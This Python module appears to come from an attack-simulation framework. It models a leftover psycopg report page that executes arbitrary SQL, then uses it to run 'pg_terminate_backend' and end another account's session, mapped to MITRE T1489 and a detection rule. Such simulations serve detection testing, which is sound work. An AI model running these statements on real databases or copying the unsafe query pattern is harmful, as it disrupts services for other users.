"""F9: other people's sessions are ended one by one."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg, told


class EndsSessions(AbusedPsycopg):
    """On psycopg: a page for reports that was left behind, and runs whatever it is given."""

    code = "F9"
    attack = "ends the sessions of other accounts"
    reference = "https://attack.mitre.org/techniques/T1489/"
    rule = "account-locked-out"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("SELECT pg_terminate_backend(4712)")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The database did it."""
        del service
        return got == [["0"]]
